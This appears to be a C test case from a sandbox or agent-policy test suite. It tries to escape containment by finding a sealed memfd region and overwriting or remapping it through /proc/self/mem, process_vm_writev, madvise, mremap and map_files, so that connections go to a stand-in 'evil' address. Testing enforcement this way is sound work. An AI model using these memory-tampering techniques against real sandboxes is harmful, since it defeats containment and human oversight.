// escape: writes over, moves and replaces the memory in which the agent has put the address
// group: the agent itself
// policy: unix
// attempts: 1000
#include "unix.h"

static unsigned long sealed;

// Where the agent's memory is in ours; 0: not yet.
static unsigned long find_sealed(void) {
  char line[512];
  unsigned long found = 0;
  FILE* maps = fopen("/proc/self/maps", "re");
  while (maps != NULL && fgets(line, sizeof line, maps) != NULL) {
    if (strstr(line, "memfd:tidewaiter") != NULL) found = strtoul(line, NULL, 16);
  }
  if (maps != NULL) fclose(maps);
  return found;
}

static void* overwrite(void* unused) {
  enum { kSize = 16384, kStep = 512 };
  static unsigned char page[kSize];
  const struct name name = named(evil());
  for (int at = 0; at < kSize; at += kStep) memcpy(page + at, &name.address, sizeof name.address);
  const int memory = open("/proc/self/mem", O_RDWR);
  for (;;) {
    void* there = (void*)sealed;
    struct iovec from = {page, kSize}, to = {there, kSize};
    pwrite(memory, page, kSize, (off_t)sealed);
    process_vm_writev(getpid(), &from, 1, &to, 1, 0);
    if (mprotect(there, kSize, PROT_READ | PROT_WRITE) == 0) memcpy(there, page, kSize);
    madvise(there, kSize, MADV_REMOVE);
    madvise(there, kSize, MADV_DONTNEED);
    if (mmap(there, kSize, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0) == there)
      memcpy(there, page, kSize);
    void* elsewhere = mremap(there, kSize, kSize, MREMAP_MAYMOVE | MREMAP_DONTUNMAP);
    if (elsewhere != MAP_FAILED) munmap(elsewhere, kSize);
    munmap(there, kSize);
    // As anybody can open what a process has mapped.
    char path[96];
    snprintf(path, sizeof path, "/proc/self/map_files/%lx-%lx", sealed, sealed + kSize);
    const int file = open(path, O_RDWR);
    if (file >= 0) {
      pwrite(file, page, kSize, 0);
      if (ftruncate(file, 0) == 0) ftruncate(file, kSize);
      close(file);
    }
  }
  return unused;
}

static void attack(void) {
  serve_all(SOCK_STREAM);
  connect_once(named(evil()));
  connect_once(named(GOOD_SOCKET));
  sealed = find_sealed();
  if (sealed == 0) broken("there is no such memory");
  for (int i = 0; i < 2; i++) thread(overwrite, NULL);
  while (more()) connect_once(named(GOOD_SOCKET));
}
